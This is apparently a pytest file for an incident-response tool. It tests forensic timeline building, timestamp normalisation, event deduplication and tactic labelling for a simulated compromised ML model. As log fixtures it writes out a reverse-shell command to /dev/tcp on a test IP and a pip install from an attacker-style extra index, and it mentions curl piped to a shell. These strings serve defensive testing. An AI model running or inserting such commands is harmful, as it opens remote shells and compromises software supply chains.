from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pandas as pd
import pytest

from tests.timeline.conftest import open_case
from workbench.conclusions import Coverage, derive_conclusions
from workbench.records import Event, Finding, Severity
from workbench.timeline.build import FRAME_COLUMNS, build_timeline, lane_of
from workbench.timeparse import parse_timestamp

GENERATED = datetime(2026, 11, 26, 12, 0, tzinfo=UTC)


def _t(text: str) -> datetime:
    return datetime.fromisoformat(text.replace("Z", "+00:00")).astimezone(UTC)


def _log_match(text_time: str, message: str, severity: str = "critical", ref: str | None = None) -> Event:
    """What the log scanner emits: the line's own time (any offset) converted to UTC by timeparse."""
    return Event(parse_timestamp(text_time), "logs/pipeline.log", "ci:log:match", message, severity, ref)


def conclude(tl, findings=(), meta=None):
    """The conclusions over the timeline's usable events, and their milestones anchored (as the run does)."""
    cov = {"model": Coverage("model", "Model forensics", "analysed")}
    c = derive_conclusions(findings, tl.usable, cov, meta=meta, generated_at=GENERATED, plausible=tl.plausible)
    tl.anchor(c.milestones)
    return c


@pytest.fixture
def hostile(hostile_case: Path, tmp_path: Path):
    from workbench.timeline.sources import evidence_events

    o = open_case(hostile_case, tmp_path / "out")
    return o, evidence_events(o.case, o.evidence, o.ledger, warnings=[])


def test_merge_order_and_utc_conversion_across_sources(hostile):
    o, events = hostile
    match = _log_match("2026-11-19T15:10:00+05:30", "curl piped to a shell")
    tl = build_timeline([match, *reversed(events)], meta=o.case.meta, generated_at=GENERATED)
    usable = [
        (e.event.timestamp.isoformat(), e.event.source, e.event.message, e.count) for e in tl.entries if not e.flag
    ]
    intake = next(e for e in events if e.kind == "ir:custody:intake")
    alerts, marker = "monitor/alerts.jsonl", "models/suspect/demo-model/COMPROMISED.txt"
    assert usable == [
        ("2026-11-19T08:40:03+00:00", alerts, "Monitor alert FILE_TAMPERED: hash mismatch", 1),
        ("2026-11-19T08:45:00+00:00", alerts, "Monitor alert UNEXPECTED_FILE: unknown severity word", 1),
        ("2026-11-19T08:46:00+00:00", alerts, "Monitor alert BEHAVIOR_DRIFT: no severity at all", 1),
        ("2026-11-19T09:05:12+00:00", "actions.log", "ASSESS: Starting incident assessment for model demo-model", 1),
        ("2026-11-19T09:10:00+00:00", "case.yaml", "Vendor called the hotline", 1),  # 04:10:00-05:00
        ("2026-11-19T09:20:00+00:00", "case.yaml", "Naive Berlin time from the on-call notebook", 1),  # 10:20 CET
        ("2026-11-19T09:25:00+00:00", "case.yaml", "Severity word nobody knows", 1),
        ("2026-11-19T09:30:00.500000+00:00", "notes/timeline.csv", 'Note with a comma, and "quotes"', 1),
        ("2026-11-19T09:36:00+00:00", "notes/timeline.csv", "Too many cells", 1),
        ("2026-11-19T09:40:00+00:00", "logs/pipeline.log", "curl piped to a shell", 1),  # 15:10+05:30
        ("2026-11-19T09:40:33+00:00", "actions.log", "ISOLATE: Isolating compromised model demo-model", 1),  # +01:00
        ("2026-11-19T09:40:33+00:00", "actions.log", "Scaled down: deployment.apps/demo-api", 2),
        ("2026-11-19T09:40:33+00:00", marker, "Model demo-model marked COMPROMISED", 1),
        ("2026-11-19T11:20:47+00:00", "actions.log", "ROLLBACK: Rolling back to last known-good model", 1),  # -05:00
        (intake.timestamp.isoformat(), "custody.jsonl", "Evidence intake: 5 files hashed into the custody ledger", 1),
    ]
    assert all(e.event.timestamp.tzinfo is UTC for e in tl.entries)


def test_absurd_and_unparseable_times_are_kept_and_flagged(hostile):
    o, events = hostile
    tl = build_timeline(events, meta=o.case.meta, generated_at=GENERATED)
    intake = next(e for e in events if e.kind == "ir:custody:intake")
    assert tl.horizon == intake.timestamp
    flagged = [(e.flag, e.event.timestamp.isoformat(), e.event.source, e.event.message) for e in tl.flagged]
    assert flagged == [
        ("unparseable", "1970-01-01T00:00:00+00:00", "actions.log", "CONTAIN: line with a broken time"),
        ("unparseable", "1970-01-01T00:00:00+00:00", "case.yaml", "Time nobody can parse"),
        ("unparseable", "1970-01-01T00:00:00+00:00", "notes/timeline.csv", "Unparseable note time"),
        ("before_1990", "1985-03-01T00:00:00+00:00", "actions.log", "ISOLATE: clock reset on the bastion host"),
        ("future", "2099-01-01T00:00:00+00:00", "actions.log", "ROLLBACK: clock far in the future"),
    ]
    assert tl.total == len(events) == 20  # 8 actions, 3 alerts, 1 marker, 1 intake, 7 analyst
    assert tl.summary()["flagged"] == {"unparseable": 3, "before_1990": 1, "future": 1}
    # flagged isolate/rollback lines are not milestones: the plausible ones are
    ms = conclude(tl, meta=o.case.meta).milestones
    assert ms["containment"].time == _t("2026-11-19T09:40:33Z")
    # the plausible rollback line says it started, never that it finished: no recovery, and the rule says why
    assert ms["recovery"].time is None
    assert ms["recovery"].rule == "no completed rollback (a rollback at 2026-11-19T11:20:47Z has no completion line)"
    assert not any(e.milestones for e in tl.flagged)


def test_absurd_finding_times_are_no_compromise_candidates(hostile):
    o, events = hostile
    findings = [
        Finding.create(severity="critical", category="log_pattern", title="old", timestamp=_t("1971-01-01T00:00:00Z")),
        Finding.create(severity="high", category="log_pattern", title="future", timestamp=_t("2199-01-01T00:00:00Z")),
        Finding.create(severity="high", category="log_pattern", title="ok", timestamp=_t("2026-11-18T22:00:00Z")),
    ]
    tl = build_timeline(events, findings=findings, meta=o.case.meta, generated_at=GENERATED)
    compromise = conclude(tl, findings, o.case.meta).milestones["compromise"]
    assert compromise.time == _t("2026-11-18T22:00:00Z")
    assert compromise.rule == "earliest malicious pipeline step (log_pattern, severity high)"
    # timed findings join the timeline as finding events; absurd ones are flagged there
    finding_rows = {e.event.message: e.flag for e in tl.entries if e.event.kind == "finding:log_pattern"}
    assert finding_rows == {"old": "before_1990", "future": "future", "ok": None}


def test_thousands_of_identical_events_collapse_with_a_count(hostile_case: Path, tmp_path: Path):
    from workbench.timeline.sources import evidence_events

    same = {
        "timestamp": "2026-11-19T08:50:00Z",
        "type": "FILE_MISSING",
        "model": "m",
        "severity": "high",
        "message": "flood",
    }
    start = _t("2026-11-19T10:00:00Z")
    spread = [
        same | {"timestamp": (start + timedelta(minutes=i)).isoformat(), "message": "repeated"} for i in range(150)
    ]
    few = [same | {"timestamp": (start + timedelta(minutes=i)).isoformat(), "message": "thrice"} for i in range(3)]
    lines = [json.dumps(r) for r in [same] * 3000 + spread + few]
    with (hostile_case / "monitor" / "alerts.jsonl").open("a", encoding="utf-8") as fh:
        fh.write("\n".join(lines) + "\n")
    o = open_case(hostile_case, tmp_path / "out")
    events = evidence_events(o.case, o.evidence, o.ledger, warnings=[])
    tl = build_timeline(events, meta=o.case.meta, generated_at=GENERATED)
    rows = {}
    for e in tl.entries:
        if e.event.kind == "ml:monitor:alert" and e.event.extra.get("alert_type") == "FILE_MISSING":
            rows.setdefault(e.event.message, []).append((e.count, e.event.timestamp, e.last))
    assert rows == {
        "Monitor alert FILE_MISSING: flood": [(3000, _t("2026-11-19T08:50:00Z"), _t("2026-11-19T08:50:00Z"))],
        "Monitor alert FILE_MISSING: repeated": [(150, start, start + timedelta(minutes=149))],
        "Monitor alert FILE_MISSING: thrice": [
            (1, start + timedelta(minutes=i), start + timedelta(minutes=i)) for i in range(3)
        ],
    }
    assert tl.total == len(events) == 20 + 3153
    flood = next(e for e in tl.entries if e.event.message.endswith("flood"))
    assert flood.event.extra["line"] == 4  # the first line of the group represents it


def test_frame_columns_dtypes_and_tactics(hostile):
    o, events = hostile
    finding = Finding.create(severity="critical", category="log_pattern", title="reverse shell", atlas=("AML.T0072",))
    extra = [
        _log_match("2026-11-19T07:00:00Z", "bash -i >& /dev/tcp/203.0.113.7/4444", ref=finding.id),
        _log_match("2026-11-19T07:01:00Z", "pip --extra-index-url http://203.0.113.7/simple", severity="high"),
        Event(_t("2026-11-19T07:02:00Z"), "predictions/p.jsonl", "ml:drift:onset", "drift onset", "high"),
        Event(_t("2026-11-19T07:03:00Z"), "x", "weird:kind", "unknown kind"),
    ]
    tl = build_timeline(events + extra, findings=[finding], meta=o.case.meta, generated_at=GENERATED)
    conclude(tl, [Finding.create(severity="critical", category="log_pattern", title="reverse shell",
                                 timestamp=_t("2026-11-19T07:00:00Z"))], o.case.meta)  # fmt: skip
    df = tl.frame()
    assert list(df.columns) == FRAME_COLUMNS
    assert str(df["timestamp"].dtype) == "datetime64[us, UTC]" == str(df["last_timestamp"].dtype)
    assert str(df["count"].dtype) == "int64"
    assert isinstance(df["severity"].dtype, pd.CategoricalDtype) and df["severity"].cat.ordered
    assert df["count"].sum() == tl.total == len(events) + 4
    by_message = df.set_index("message")
    assert by_message.loc["bash -i >& /dev/tcp/203.0.113.7/4444", ["lane", "tactic", "ref"]].tolist() == [
        "Pipeline",
        "Command and Control",
        finding.id,
    ]
    assert by_message.loc["pip --extra-index-url http://203.0.113.7/simple", ["lane", "tactic"]].tolist() == [
        "Pipeline",
        "Initial Access",
    ]
    assert by_message.loc["drift onset", ["lane", "tactic"]].tolist() == ["Behaviour", "Impact"]
    assert by_message.loc["unknown kind", ["lane", "tactic"]].tolist() == ["Other", "Other"]
    assert by_message.loc["Monitor alert BEHAVIOR_DRIFT: no severity at all", "tactic"] == "Impact"
    assert by_message.loc["Vendor called the hotline", ["lane", "tactic"]].tolist() == ["Analyst", "Response"]
    assert by_message.loc["bash -i >& /dev/tcp/203.0.113.7/4444", "milestone"] == "first_indicator,compromise"
    assert df.loc[df["flag"] != "", "flag"].tolist() == ["unparseable"] * 3 + ["before_1990", "future"]


@pytest.mark.parametrize(
    ("kind", "lane"),
    [
        ("ci:deps:extra_index", "Dependencies"),
        ("ci:log:match", "Pipeline"),
        ("ml:model:file_modified", "Model"),
        ("host:process", "Host"),
        ("ir:custody:intake", "Custody"),
        ("ir:marker", "Response"),
        ("finding:dependency_changed", "Dependencies"),
        ("finding:tensor_modified", "Model"),
        ("finding:secret_exposed", "Pipeline"),
    ],
)
def test_lanes(kind, lane):
    assert lane_of(kind) == lane


def test_empty_timeline():
    tl = build_timeline([], generated_at=GENERATED)
    assert len(tl) == 0 and list(tl.frame().columns) == FRAME_COLUMNS
    assert tl.horizon == GENERATED
    c = conclude(tl)
    assert c.milestones["report"].time == GENERATED and c.verdict == "clean"
    assert c.intervals["dwell_time"].duration is None
    assert Severity.INFO.value in tl.frame()["severity"].cat.categories


def test_a_flood_with_some_absurd_times_keeps_its_usable_part(hostile):
    o, events = hostile
    start = _t("2026-11-19T10:00:00Z")
    flood = [
        Event(start + timedelta(seconds=i), "logs/ci.log", "ci:log:match", "same line", "high") for i in range(120)
    ]
    flood += [Event(_t("1970-01-01T00:00:01Z"), "logs/ci.log", "ci:log:match", "same line", "high")] * 120
    tl = build_timeline(events + flood, meta=o.case.meta, generated_at=GENERATED)
    rows = [(e.count, e.flag, e.event.timestamp, e.last) for e in tl.entries if e.event.message == "same line"]
    assert rows == [
        (120, "before_1990", _t("1970-01-01T00:00:01Z"), _t("1970-01-01T00:00:01Z")),
        (120, None, start, start + timedelta(seconds=119)),
    ]
    assert start in [e.timestamp for e in tl.usable] and _t("1970-01-01T00:00:01Z") not in [
        e.timestamp for e in tl.usable
    ]
    finding = Finding.create(severity="critical", category="log_pattern", title="same line", timestamp=start)
    assert conclude(tl, [finding], o.case.meta).milestones["first_indicator"].time == start
